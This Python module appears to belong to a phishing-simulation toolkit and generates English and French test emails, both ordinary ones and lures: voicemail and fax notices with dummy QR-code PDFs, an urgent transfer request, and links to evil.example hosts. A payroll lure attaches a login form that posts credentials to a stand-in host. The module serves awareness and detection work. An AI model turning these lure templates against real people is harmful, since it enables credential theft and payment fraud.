"""What the mails say, in English and French: everyday subjects, lures, and the files that come with them.

    Caller Left VM Message * Duration-0142 for Jane

Every file is harmless and made here: the picture of a QR code encodes nothing, and links lead to `.example`.
"""

from __future__ import annotations

from toolkit.simulate.dice import Dice
from toolkit.simulate.mail import Attachment, Content

EVERYDAY = (
    ("Minutes of Tuesday's meeting", "Hello,\n\nPlease find the minutes below. Two actions are yours.\n\nRegards"),
    ("Budget 2026: first figures", "Here are the first figures. Can you check travel costs by Friday?"),
    ("Lunch on Thursday?", "The usual place at noon?"),
    ("Congé de la Saint-Jean", "Bonjour,\n\nPouvez-vous confirmer vos dates de congé d'ici jeudi ?\n\nMerci"),
    ("Compte rendu du comité", "Bonjour à tous,\n\nVoici le compte rendu. Vos commentaires avant vendredi.\n"),
    ("Project Fir: open points", "Three points are still open. I have put them on the list."),
    ("Mise à jour du calendrier", "Le calendrier du projet est à jour. Bonne lecture."),
    ("Printer on the 3rd floor", "It works again. Tell me if it does not."),
    ("Re: contract with Fabrikam", "I agree with your changes. Legal has it now."),
    ("Bienvenue à Inès", "Inès rejoint l'équipe lundi. Merci de lui faire bon accueil."),
)

PARTNER = (
    ("Order 20447 confirmed", "Your order is confirmed. Delivery is planned for next week."),
    ("Facture no 1182", "Bonjour,\n\nVotre facture de juin est jointe.\n\nCordialement"),
    ("Question about the June statement", "Hello, line 14 of the statement looks odd to us. Could you look?"),
    ("Offre révisée", "Vous trouverez l'offre révisée ci-dessous. Elle vaut jusqu'au 31 juillet."),
    ("Site visit on the 16th", "We will be three people. Is parking possible?"),
)


def everyday(dice: Dice) -> tuple[str, Content]:
    """Everyday mail between colleagues."""
    subject, text = dice.pick(EVERYDAY)
    return f"{subject} ({dice.between(1, 30)})", Content(text=text)


def partner(dice: Dice) -> tuple[str, Content]:
    """Everyday mail with a partner."""
    subject, text = dice.pick(PARTNER)
    return f"{subject} / {dice.digits(4)}", Content(text=text)


def voice_message(dice: Dice, first_name: str) -> tuple[str, Content]:
    """A voicemail lure with a PDF to scan."""
    seconds = dice.between(31, 189)
    name = dice.pick(("Play_VM-Now", "Caller left VM Message", "Listen", "Message vocal"))
    subject = f"Caller Left VM Message * Duration-0{seconds} for {first_name}"
    recording = qr_pdf(f"{name}_{seconds}.pdf")
    return subject, Content(html=_branded("You have a new voice message."), attachments=(recording,))


def fax(dice: Dice) -> tuple[str, Content]:
    """A missed-fax lure."""
    number = dice.digits(6)
    return f"New Missed Fax-msg {number}", Content(
        html=_branded("A fax of 3 pages is waiting."), attachments=(qr_pdf(f"Fax-msg_{number}.pdf"),)
    )


def payroll(dice: Dice) -> tuple[str, Content]:
    """A payroll lure with a page that asks for a password."""
    subject = dice.pick(("Relevé de paie : mise à jour requise", "Avis : prime d'été 2025", "Employee bonus statement"))
    page = Attachment(f"Relevé_{dice.digits(5)}.html", "text/html", _LOGIN_PAGE)
    return f"{subject} #{dice.digits(3)}", Content(html=_branded("Signez avant 17 h."), attachments=(page,))


def voice_picture(dice: Dice) -> tuple[str, Content]:
    """An empty body and a picture that carries a script: here one that does nothing."""
    name = f"Voicemail_vRecording_{dice.between(40, 190)}sec_{dice.digits(6)}.svg"
    return f"VM recording {dice.digits(5)}", Content(attachments=(Attachment(name, "image/svg+xml", _PICTURE),))


def transfer(dice: Dice) -> tuple[str, Content]:
    """A request for an urgent transfer."""
    amount = dice.between(12, 96) * 1000
    text = f"Hello,\n\nI need a transfer of {amount} CAD today and am in meetings all day. Reply here, do not call.\n"
    subject = dice.pick(("Urgent transfer", "Virement urgent", "Confidential payment"))
    return f"{subject} {dice.digits(3)}", Content(text)


def shared_document(dice: Dice) -> tuple[str, Content]:
    """A shared-document lure."""
    link = f"https://share.evil.example/d/{dice.hex(12)}"
    html = _branded(f'A document was shared with you. <a href="{link}">Open the document</a>')
    return f"Shared: Remuneration_{dice.digits(4)}.docx", Content(html=html)


def password(dice: Dice) -> tuple[str, Content]:
    """A lure about an expiring password."""
    link = f"https://login.evil.example/{dice.hex(10)}"
    html = _branded(f'Votre mot de passe expire aujourd\'hui. <a href="{link}">Conserver le mot de passe</a>')
    return f"Expiration du mot de passe {dice.digits(4)}", Content(html=html)


def _branded(words: str) -> str:
    return f"<html><body><p><b>Contoso</b></p><p>{words}</p></body></html>\n"


_LOGIN_PAGE = (
    b"<html><body><h1>Contoso</h1><form action='https://login.evil.example/p' method='post'>"
    b"<input name='user'><input name='word' type='password'><button>OK</button></form></body></html>\n"
)
_PICTURE = (
    b"<svg xmlns='http://www.w3.org/2000/svg' width='240' height='60'><text x='8' y='36'>Play message</text>"
    b"<script>/* made up: does nothing */</script></svg>\n"
)
_MODULES = 21


def qr_pdf(name: str) -> Attachment:
    """A one-page PDF with squares that look like a QR code and read as nothing."""
    dice = Dice(name)
    squares = [(x, y) for x in range(_MODULES) for y in range(_MODULES) if dice.chance(0.5)]
    drawing = "".join(f"{100 + 8 * x} {400 + 8 * y} 8 8 re\n" for x, y in squares) + "f\n"
    return Attachment(name, "application/pdf", _pdf(drawing.encode("ascii")))


def _pdf(drawing: bytes) -> bytes:
    objects = (
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(drawing), drawing),
    )
    body, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    tail = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(body))
    return body + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table + tail
